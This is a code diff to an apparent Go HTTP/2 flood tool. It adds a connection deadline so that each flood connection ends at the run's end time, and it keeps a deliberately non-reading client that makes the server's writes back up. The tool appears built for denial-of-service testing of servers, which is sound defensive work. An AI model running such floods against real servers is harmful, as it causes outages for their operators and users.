@@ -37,7 +37,7 @@ func main() {
 	end := time.Now().Add(*duration)
 	conns, sent, goAways := 0, int64(0), map[string]int{}
 	for time.Now().Before(end) {
-		n, code, err := attack(*addr, flood, reads)
+		n, code, err := attack(*addr, flood, reads, end)
 		if err != nil {
 			fmt.Fprintln(os.Stderr, "dial:", err)
 			os.Exit(1)
@@ -130,14 +130,16 @@ func floods(kind, host string) (func(*http2.Framer) error, bool) {
 	return nil, false
 }
 
-// attack runs one flood on a new connection until the server closes it; returns the bytes sent and
-// the GOAWAY's error code read ("none" when none was read).
-func attack(addr string, flood func(*http2.Framer) error, reads bool) (int64, string, error) {
+// attack runs one flood on a new connection until the server closes it or the attack's end comes
+// (a server that takes the flood without closing keeps one connection to the end); returns the
+// bytes sent and the GOAWAY's error code read ("none" when none was read).
+func attack(addr string, flood func(*http2.Framer) error, reads bool, end time.Time) (int64, string, error) {
 	c, err := net.Dial("tcp", addr)
 	if err != nil {
 		return 0, "", err
 	}
 	defer c.Close()
+	c.SetDeadline(end)
 	if !reads {
 		c.(*net.TCPConn).SetReadBuffer(4096) // a reader that does not read: the server's writes back up
 	}
